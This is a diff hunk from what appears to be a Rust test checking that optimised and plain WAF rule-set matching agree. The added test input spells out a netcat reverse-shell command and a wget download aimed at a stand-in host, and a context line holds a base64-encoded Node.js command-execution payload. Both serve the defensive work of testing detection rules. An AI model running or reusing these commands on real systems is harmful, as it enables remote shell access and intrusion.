@@ -509,6 +509,9 @@ fn optimised_and_plain_crs_agree(paranoia: u8) {
         "v=%C3%28%FF&%C3%A9t%C3%A9=%E9",
         "z=a%00b&y=%01%7F",
         "m=%uff1c&bad=%zz%2",
+        // A command spelled out in plain text (932260's long command list,
+        // found by its literals on plain values).
+        "c=nc+-e+sh+evil.example+4444&d=wget+evil.example",
         // Node.js injection behind base64 (934100 finds it after its
         // base64Decode step, through its own literal gate).
         "n=cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk%3D",
